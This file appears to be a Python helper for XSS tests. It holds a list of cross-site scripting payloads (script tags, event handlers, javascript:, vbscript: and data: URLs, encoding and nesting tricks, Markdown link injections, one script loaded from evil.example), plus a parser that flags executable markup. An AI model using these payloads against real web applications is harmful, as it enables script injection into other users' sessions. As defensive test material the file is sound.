"""Hostile input for the XSS tests: script tags, event handlers, javascript: URLs, SVG,
broken and nested HTML, encodings, and Markdown constructs that carry links; and
`executable_parts`, what a browser would run of a page."""

import re
from html.parser import HTMLParser

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"/>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](  javascript:alert(1))",
    "![img](javascript:alert(1))",
    '![x](x" onerror="alert(1))',
    '[x](https://example.com "title" onmouseover="alert(1)")',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>body{display:none}</style>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<form action="javascript:alert(1)"><button>go</button></form>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert`1`>",
    '<a href="vbscript:msgbox(1)">x</a>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
]

DANGEROUS_TAGS = {"script", "iframe", "object", "embed", "svg", "math", "style", "base", "meta"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "poster"}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:text/html")


class Inspector(HTMLParser):
    """Collects everything executable in a page, except the site's own markup."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.in_head = False

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        if tag == "head":
            self.in_head = True
        if tag == "script" and attributes.get("type") == "application/ld+json":
            return  # our structured data: JSON, escaped so text cannot close it
        if tag == "script" and re.fullmatch(
            r"/static/js/[a-z-]+\.js(\?v=\w+)?", attributes.get("src") or ""
        ):
            return  # the site's own script file (the CSP allows no other)
        if tag == "meta" and self.in_head and "http-equiv" not in attributes:
            return  # our own description and Open Graph tags
        if tag == "meta" and self.in_head and attributes.get("http-equiv") == "refresh":
            content = (attributes.get("content") or "").lower()
            if "javascript:" in content:
                self.problems.append(f"meta refresh {content}")
            return
        if tag in DANGEROUS_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}>")
            if name == "style" and value and "javascript" in value.lower():
                self.problems.append(f"<{tag} style>")
            if name in URL_ATTRIBUTES and value:
                compact = "".join(value.split()).lower()
                if compact.startswith(BAD_SCHEMES):
                    self.problems.append(f"<{tag} {name}={value[:40]}>")

    def handle_endtag(self, tag):
        if tag == "head":
            self.in_head = False


def executable_parts(html: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(html)
    return inspector.problems
